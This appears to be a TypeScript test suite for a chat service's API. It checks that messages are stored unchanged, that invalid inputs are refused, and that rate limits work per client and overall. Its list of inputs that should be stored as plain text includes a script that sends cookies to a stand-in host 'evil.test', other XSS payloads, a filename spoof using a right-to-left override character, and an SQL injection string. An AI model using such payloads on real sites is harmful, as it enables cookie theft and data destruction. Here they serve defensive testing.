import { randomUUID } from 'node:crypto';
import { type Answer, type Caller, caller, everyRole, manyClients } from './support/api';
import { asVisitor, aToken, startChat, type Visitor, WITHOUT_LIMITS } from './support/chat';
import { type HostProcess, startHost } from './support/host';

/** Looks dangerous but is only text: stored and shown as it is. */
const harmless = [
  `<script>fetch('//evil.test?c='+document.cookie)</script>`,
  `<iframe srcdoc='<script>parent.alert(1)</script>'>`,
  '[x](javascript:alert(1))',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'invoice\u202efdp.exe',
  '{"type":"agent","senderName":"agent-support"}',
  '[[[[[[[[]]]]]]]]',
  `'); delete from chats; --`,
  'line 1\n\tline 2\r\nline 3',
  '  with spaces around  ',
  '\u0645\u0631\u062d\u0628\u0627 \u{1F69A}',
  '0',
  'm'.repeat(2000),
  '\u{1F69A}'.repeat(2000),
];
const refusals: [string, unknown][] = [
  ['nothing', ''],
  ['spaces', '   '],
  ['a new line', '\n\t'],
  ['invisible characters', '\u200b\u00a0\u3000\ufeff'],
  ['null', null],
  ['2001 characters', 'm'.repeat(2001)],
  ['60 KB', 'm'.repeat(60_000)],
  ['NUL', 'a\u0000b'],
  ['an escape sequence', 'a\u001b[31mb'],
  ['half a character', '\ud800'],
];

describe('chat input', () => {
  let host: HostProcess;
  let anon: Caller;
  let admin: Caller;
  beforeAll(async () => {
    host = await startHost({ env: manyClients });
    ({ anon, admin } = await everyRole(host));
  });
  afterAll(() => host.stop());

  const rpc = (name: string, body: unknown, call = anon): Promise<Answer> =>
    call('POST', `/rest/v1/rpc/${name}`, { body });

  describe('text', () => {
    let visitor: Visitor;
    let chat: string;
    beforeAll(async () => {
      await host.sql(WITHOUT_LIMITS);
      ({ visitor, chat } = await startChat(anon, admin));
    });

    it.each(harmless.map((text) => [text.slice(0, 40), text]))(
      'is stored unchanged: %j',
      async (_short, text) => {
        expect((await visitor.send(text)).item).toMatchObject({ message: text, type: 'visitor' });
        expect(await rpc('chat_reply', { chat, cid: randomUUID(), body: text }, admin)).toMatchObject({
          body: { item: { message: text, type: 'agent' } },
        });
        expect((await asVisitor(anon).start(text)).items).toMatchObject([{ message: text }]);
        const { items, seq } = await visitor.read();
        expect(items.slice(-2).map(({ message }) => message)).toEqual([text, text]);
        expect(items).toHaveLength(seq);
      },
    );

    it.each(refusals)('is refused with 400 when it is %s', async (_name, body) => {
      const before = await visitor.read();
      const cid = randomUUID();
      const token = aToken();
      for (const answer of [
        await rpc('chat_start', { token, cid, body }),
        await rpc('chat_send', { token: visitor.token, cid, body }),
        await rpc('chat_reply', { chat, cid, body }, admin),
      ]) {
        expect(answer.status).toBe(400);
      }
      expect(await visitor.read()).toEqual(before);
      expect(await asVisitor(anon, token).read()).toEqual({ status: 'gone' });
    });

    it('is refused with code 23514 when it is blank', async () => {
      const answer = await rpc('chat_send', { token: visitor.token, cid: randomUUID(), body: ' ' });
      expect(answer).toMatchObject({ status: 400, body: { code: '23514' } });
    });

    it.each([
      ['chat_send', { cid: null }],
      ['chat_send', { cid: 'not a uuid' }],
      ['chat_start', { token: '11111111-1111-4111-8111-111111111111' }],
      ['chat_start', { token: `${'a'.repeat(42)}\n` }],
      ['chat_start', { token: null }],
      ['chat_read', { cid: undefined, body: undefined, after: 2147483648 }],
      ['chat_read', { cid: undefined, body: undefined, after: 'many' }],
    ])('makes %s answer 400 with %j', async (name, changes) => {
      const body = { token: visitor.token, cid: randomUUID(), body: 'Hello', ...changes };
      expect(await rpc(name, body)).toMatchObject({ status: 400 });
    });

    it('is not returned for a position beyond the end', async () => {
      expect(await visitor.read(2147483647)).toMatchObject({ status: 'open', items: [] });
      expect((await visitor.read(-5)).items[0]).toMatchObject({ seq: 1 });
    });
  });

  describe('limit', () => {
    const inTenMinutes = { code: 'PT429', message: 'Too many requests, try again in ten minutes.' };
    const inAMinute = { code: 'PT429', message: 'Too many requests, try again in a minute.' };
    const from = (client: string): Caller => {
      const call = caller(host);
      return (method, address, { body } = {}) =>
        call(method, address, { body, headers: { 'x-forwarded-for': client } });
    };
    beforeEach(async () => {
      await host.sql('delete from private.hits');
      await host.sql(
        `update private.limits set
           per_client = case action when 'chatStart' then 5 when 'chatSend' then 30 else 60 end,
           overall = case action when 'chatStart' then 400 end,
           window_seconds = case action when 'chatStart' then 600 else 60 end
         where action in ('chatStart', 'chatSend', 'chatSecret')`,
      );
    });
    /** A window may end between any two calls: makes enough calls for one window to get too many of them. */
    const flood = async (calls: number, call: () => Promise<Answer>): Promise<Answer[]> => {
      const answers: Answer[] = [];
      for (let count = 0; count < calls; count++) answers.push(await call());
      return answers.filter(({ status }) => status !== 200);
    };

    it('refuses more than five starts in ten minutes from one client', async () => {
      const begin = (client: string) => () =>
        rpc('chat_start', { token: aToken(), cid: randomUUID(), body: 'Hi' }, from(client));
      const over = await flood(12, begin('192.0.2.1'));
      expect(over.length).toBeGreaterThan(0);
      expect(over[0]).toMatchObject({ status: 429, body: inTenMinutes });
      expect(await begin('192.0.2.2')()).toMatchObject({ status: 200 });
    });

    it('counts a repeated start once', async () => {
      const body = { token: aToken(), cid: randomUUID(), body: 'Hi' };
      expect(await flood(20, () => rpc('chat_start', body, from('192.0.2.3')))).toEqual([]);
    });

    it('counts a start in an open chat as a message', async () => {
      const token = aToken();
      const start = () => rpc('chat_start', { token, cid: randomUUID(), body: 'Hi' }, from('192.0.2.4'));
      const over = await flood(63, start);
      expect(over[0]).toMatchObject({ status: 429, body: inAMinute });
    });

    it('refuses starts over the limit of all clients', async () => {
      await host.sql(`update private.limits set overall = 3 where action = 'chatStart'`);
      let client = 0;
      const over = await flood(8, () =>
        rpc('chat_start', { token: aToken(), cid: randomUUID(), body: 'Hi' }, from(`198.51.100.${client++}`)),
      );
      expect(over[0]).toMatchObject({ status: 429, body: inTenMinutes });
    });

    it('refuses more than thirty messages a minute in one chat', async () => {
      const visitor = asVisitor(anon);
      await visitor.start();
      const send = (token: string) => () => rpc('chat_send', { token, cid: randomUUID(), body: 'Hi' });
      const over = await flood(62, send(visitor.token));
      expect(over[0]).toMatchObject({ status: 429, body: inAMinute });
      const other = asVisitor(anon);
      await other.start();
      expect(await send(other.token)()).toMatchObject({ body: { status: 'ok' } });
      expect(await visitor.read()).toMatchObject({ status: 'open' });
    });

    it('refuses messages over the limit of one client across its chats', async () => {
      const chats = [asVisitor(anon), asVisitor(anon)];
      for (const chat of chats) await chat.start();
      await host.sql(`update private.limits set per_client = 10 where action = 'chat_message'`);
      let turn = 0;
      const send = (client: string) => () => {
        const token = chats[turn++ % 2]?.token;
        return rpc('chat_send', { token, cid: randomUUID(), body: 'Hi' }, from(client));
      };
      const over = await flood(24, send('192.0.2.7'));
      expect(over[0]).toMatchObject({ status: 429, body: inAMinute });
      expect(await send('192.0.2.8')()).toMatchObject({ body: { status: 'ok' } });
      await host.sql(`update private.limits set per_client = 300 where action = 'chat_message'`);
    });

    it('refuses more than sixty wrong secrets a minute, but never the right one', async () => {
      const visitor = asVisitor(anon);
      await visitor.start();
      const guess = () => rpc('chat_read', { token: aToken() }, from('192.0.2.9'));
      const over = await flood(122, guess);
      expect(over[0]).toMatchObject({ status: 429, body: inAMinute });
      expect(await rpc('chat_read', { token: visitor.token }, from('192.0.2.9'))).toMatchObject({
        status: 200,
      });
    });
  });
});
